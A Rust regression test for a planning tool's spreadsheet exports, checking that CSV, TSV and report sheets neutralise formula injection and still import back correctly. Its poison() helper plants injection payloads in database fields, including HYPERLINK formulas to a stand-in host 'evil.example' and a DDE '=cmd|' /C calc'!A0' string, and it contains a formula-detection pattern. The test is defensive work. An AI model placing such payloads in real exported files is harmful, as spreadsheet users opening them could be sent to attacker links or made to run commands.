//! Regression (issue 13, defect 3): `bayu template reports` wrote unit
//! names, task titles and indicator headers unguarded — a task renamed
//! `=HYPERLINK(...)` gave LibreOffice 54 live formula cells in the sheet
//! sent to the districts, while `export csv` was guarded.
//!
//! One test over every writer of a file for a spreadsheet: every export
//! template whose file is a sheet (csv, tsv — found from the template list,
//! so a new one is walked too) and the reports sheet. Every text column of
//! the database holds a formula; no cell of any of them may start one.
//! Then the guarded sheet, filled in, imports back to the same units and
//! tasks.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::Path;
use std::process::{Command, Output};

use bayu::export::TEMPLATES;

fn bayu(dir: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_bayu"))
        .args(args)
        .env("HOME", dir)
        .env("BAYU_CONFIG", "/dev/null")
        .env_remove("BAYU_DB")
        .output()
        .unwrap()
}

/// What a spreadsheet runs as a formula (this test's own judgement, not
/// the program's): `=`, `+`, `-`, `@` (or full-width) after any spaces,
/// or a tab or line break first.
fn live_formula(cell: &str) -> bool {
    cell.starts_with(['\t', '\r', '\n'])
        || cell
            .trim_start_matches([' ', '\u{3000}'])
            .starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
}

/// Every text column a sheet can show, set to a formula by another tool.
fn poison(db: &Path) {
    let c = rusqlite::Connection::open(db).unwrap();
    c.execute_batch(
        r#"
        UPDATE plan SET title = '=HYPERLINK("http://evil.example","方案")', action_name = '+行动';
        UPDATE unit SET name = '=HYPERLINK("http://evil.example/' || id || '","' || name || '")',
                        short_name = '-' || short_name;
        UPDATE node SET title = '@SUM(A1)' || title, body = '=1+1' || body;
        UPDATE agency SET name = '＝' || name, short_name = '+' || short_name;
        UPDATE indicator SET name = '=' || name, measure = '-' || measure;
        UPDATE milestone SET title = '=cmd|'' /C calc''!A0' || title;
        UPDATE report SET body = '=HYPERLINK("http://evil.example","点我")' || body,
                          author = '-' || author,
                          review_comment = '@' || coalesce(review_comment, '');
        "#,
    )
    .unwrap();
}

fn cells(text: &str, delimiter: u8) -> Vec<Vec<String>> {
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .delimiter(delimiter)
        .quoting(delimiter == b',')
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

#[test]
fn no_cell_of_any_sheet_bayu_writes_is_a_live_formula() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("bayu.db");
    let d = db.to_str().unwrap();
    let o = bayu(dir.path(), &["--db", d, "init", "--demo"]);
    assert!(o.status.success());
    poison(&db);

    // Every writer of a sheet: the export templates that make one, and
    // the reports sheet.
    let mut writers: Vec<(String, Vec<String>, u8)> = TEMPLATES
        .iter()
        .filter(|t| matches!(t.extension, "csv" | "tsv"))
        .map(|t| {
            let delimiter = if t.extension == "tsv" { b'\t' } else { b',' };
            (
                format!("export {}", t.name),
                vec!["export".to_string(), t.name.to_string()],
                delimiter,
            )
        })
        .collect();
    assert!(writers.len() >= 2, "csv and tsv at least");
    writers.push((
        "template reports".into(),
        vec![
            "template".into(),
            "reports".into(),
            "--period".into(),
            "2021Q4".into(),
        ],
        b',',
    ));

    let mut guarded = 0;
    for (name, args, delimiter) in &writers {
        let mut all = vec!["--db", d, "--as-of", "2021-12-31"];
        all.extend(args.iter().map(String::as_str));
        let o = bayu(dir.path(), &all);
        assert!(
            o.status.success(),
            "{name}: {}",
            String::from_utf8_lossy(&o.stderr)
        );
        let text = String::from_utf8(o.stdout).unwrap();
        let rows = cells(&text, *delimiter);
        assert!(rows.len() > 1, "{name} wrote rows");
        for (r, row) in rows.iter().enumerate() {
            for (c, cell) in row.iter().enumerate() {
                assert!(
                    !live_formula(cell),
                    "{name}: row {} column {} is a live formula: {cell:?}",
                    r + 1,
                    c + 1
                );
                guarded += usize::from(cell.starts_with('\''));
            }
        }
    }
    assert!(
        guarded > 100,
        "the formulas were there, defused ({guarded})"
    );
}

#[test]
fn a_guarded_sheet_filled_in_imports_to_the_same_units_and_tasks() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("bayu.db");
    let d = db.to_str().unwrap();
    let o = bayu(dir.path(), &["--db", d, "init", "--demo"]);
    assert!(o.status.success());
    poison(&db);
    let sheet = dir.path().join("sheet.csv");
    let o = bayu(
        dir.path(),
        &[
            "--db",
            d,
            "--as-of",
            "2022-01-05",
            "template",
            "reports",
            "--period",
            "2021Q4",
            "--out",
            sheet.to_str().unwrap(),
        ],
    );
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    // A district fills in the first row's text and sends the sheet back.
    let text = std::fs::read_to_string(&sheet).unwrap();
    let mut rows = cells(&text, b',');
    let body = rows[0].iter().position(|h| h == "进展情况").unwrap();
    assert!(rows[1][0].starts_with("'="), "{:?}", rows[1][0]);
    rows[1][body] = "已完成。".into();
    let mut w = csv::Writer::from_writer(Vec::new());
    for r in &rows {
        w.write_record(r).unwrap();
    }
    std::fs::write(&sheet, w.into_inner().unwrap()).unwrap();
    let o = bayu(
        dir.path(),
        &[
            "--db",
            d,
            "--as-of",
            "2022-01-05",
            "--lang",
            "en",
            "import",
            "reports",
            sheet.to_str().unwrap(),
        ],
    );
    assert!(
        o.status.success(),
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
}
